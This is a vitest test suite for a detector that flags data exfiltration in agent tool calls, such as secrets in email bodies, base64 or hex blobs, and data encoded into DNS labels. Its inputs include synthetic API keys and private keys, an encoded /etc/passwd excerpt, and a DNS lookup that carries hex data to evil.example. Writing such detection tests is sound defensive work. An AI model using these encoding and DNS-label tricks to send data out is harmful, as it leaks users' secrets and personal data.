import { describe, expect, it } from 'vitest';
import { SeededRandom } from '../../../lib/seeded-random.js';
import { detectExfiltration } from './exfiltration.js';
import { judge } from './testing.js';

const body = (v: string, s?: 'low' | 'medium' | 'high'): string | undefined => judge(detectExfiltration, 'send_email', 'body', v, s);

const r = new SeededRandom(7);
const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const rand = (n: number, alphabet = ALNUM): string => Array.from({ length: n }, () => alphabet[r.int(alphabet.length)]).join('');
const bytes = (n: number): Buffer => Buffer.from(Array.from({ length: n }, () => r.int(256)));
const b64 = (s: string | Buffer): string => Buffer.from(s).toString('base64');

// Synthetic secrets: the right shapes, random bodies.
const GITHUB = `ghp_${rand(36)}`;
const AWS = `AKIA${rand(16, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567')}`;
const PEM = `-----BEGIN RSA PRIVATE KEY-----\n${rand(64)}\n${rand(64)}\n-----END RSA PRIVATE KEY-----`;

describe('exfiltration', () => {
  it('finds secrets with DLP detectors, never quoting them', () => {
    for (const [secret, what] of [[GITHUB, 'API key'], [AWS, 'AWS access key'], [PEM, 'private key'], [`xoxb-123456789012-123456789012-${rand(24)}`, 'Slack'], [`sk_live_${rand(24)}`, 'Stripe']] as const) {
      const found = body(`as requested: ${secret}`);
      expect(found).toMatch(new RegExp(what));
      expect(found).not.toContain(secret.slice(0, 12));
    }
  });

  it('reads a secret with its argument name (aws_secret_access_key)', () => {
    expect(judge(detectExfiltration, 'http_post', 'aws_secret_access_key', `Ab3dEf6hIj9lMn2pQr5tUv8xYz1BcD4fGh7jKl0n`)).toMatch(/AWS/);
  });

  it('decodes base64 and hex to find what is sensitive inside', () => {
    expect(body(b64(`token: ${GITHUB}`))).toMatch(/API key, base64-encoded/);
    expect(body(b64('DATABASE_URL=postgres://app:hunter2hunter@db:5432/app\nPORT=80'))).toMatch(/credentials, base64-encoded/);
    expect(body(b64('root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin'))).toMatch(/account file/);
    expect(body(b64('name,email\nJane,jane.doe@example.com'))).toMatch(/personal data/);
    expect(body(Buffer.from('password=correct-horse-battery').toString('hex'))).toMatch(/hex-encoded/);
  });

  it('flags large encoded blobs by size and sensitivity', () => {
    const blob = b64(bytes(900)); // 1200 characters
    expect(body(blob)).toMatch(/base64 blob of 900 bytes/);
    expect(body(blob, 'low')).toBeUndefined();
    expect(body(b64(bytes(300)))).toBeUndefined();
    expect(body(b64(bytes(300)), 'high')).toMatch(/base64 blob/);
    expect(body(bytes(300).toString('hex'))).toMatch(/hex blob of 300 bytes/);
    // Wrapped at 76 as base64(1) does: one blob.
    expect(body(b64(bytes(900)).replace(/.{76}/g, '$&\n'))).toMatch(/base64 blob/);
    // In a URL, half the size is enough.
    expect(judge(detectExfiltration, 'http_get', 'url', `https://x.example/c?d=${encodeURIComponent(b64(bytes(500)))}`)).toMatch(/base64 blob/);
  });

  it('lets images, PDFs and public keys through below high', () => {
    const png = b64(Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), bytes(4000)]));
    expect(judge(detectExfiltration, 'analyze_image', 'image', `data:image/png;base64,${png}`)).toBeUndefined();
    expect(judge(detectExfiltration, 'analyze_image', 'image', `data:image/png;base64,${png}`, 'high')).toBeDefined();
    expect(body(`ssh-rsa AAAAB3NzaC1yc2E${rand(700, `${ALNUM}+/`)} me@laptop`, 'high') ?? '').not.toMatch(/blob/);
    expect(body(`-----BEGIN CERTIFICATE-----\n${Array.from({ length: 20 }, () => rand(64, `${ALNUM}+/`)).join('\n')}\n-----END CERTIFICATE-----`)).toBeUndefined();
  });

  it('finds data in DNS labels', () => {
    const label = bytes(32).toString('hex');
    expect(judge(detectExfiltration, 'dns_lookup', 'domain', `${label.slice(0, 40)}.${label.slice(40)}.evil.example`)).toMatch(/DNS/);
    expect(judge(detectExfiltration, 'dns_lookup', 'domain', 'd111111abcdef8.cloudfront.net')).toBeUndefined();
    expect(judge(detectExfiltration, 'http_get', 'url', 'https://my-company-prod-data-backups-2024.s3.amazonaws.com/a.csv')).toBeUndefined();
  });

  it('lets ordinary text, ids and hashes through', () => {
    for (const t of [
      'Hi team, the deploy finished. Call me at +1 555 123 4567.',
      `commit ${rand(40, '0123456789abcdef')}`,
      `sha256:${rand(64, '0123456789abcdef')}`,
      `request ${rand(8, '0123456789abcdef')}-${rand(4, '0123456789abcdef')} failed`,
      'DATABASE_URL: postgres://app:app@db:5432/app', // a config file an agent writes: plain, not encoded
    ]) expect(body(t), t).toBeUndefined();
  });
});
